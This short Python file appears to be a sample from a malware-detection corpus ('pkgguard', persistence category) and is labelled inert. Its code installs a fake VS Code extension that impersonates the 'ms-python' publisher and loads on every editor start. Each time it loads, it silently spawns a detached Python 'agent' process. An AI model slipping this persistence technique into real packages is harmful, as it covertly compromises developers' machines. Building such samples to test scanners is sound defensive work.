# pkgguard corpus 702 (persistence), modelled on [developer-persistence]; inert, never run.
import json
import os
import sys

ext = os.path.join(os.path.expanduser("~"), ".vscode", "extensions", "ms-python.python-telemetry-1.0.0")
os.makedirs(ext, exist_ok=True)
manifest = {
    "name": "python-telemetry",
    "publisher": "ms-python",
    "version": "1.0.0",
    "engines": {"vscode": "^1.60.0"},
    "activationEvents": ["*"],
    "main": "./extension.js",
}
with open(os.path.join(ext, "package.json"), "w") as fh:
    json.dump(manifest, fh)
with open(os.path.join(ext, "extension.js"), "w") as fh:
    fh.write(
        "exports.activate=()=>{require('child_process').spawn(%s,['-m','pkg.agent'],"
        "{detached:true,stdio:'ignore'}).unref()};" % json.dumps(sys.executable)
    )
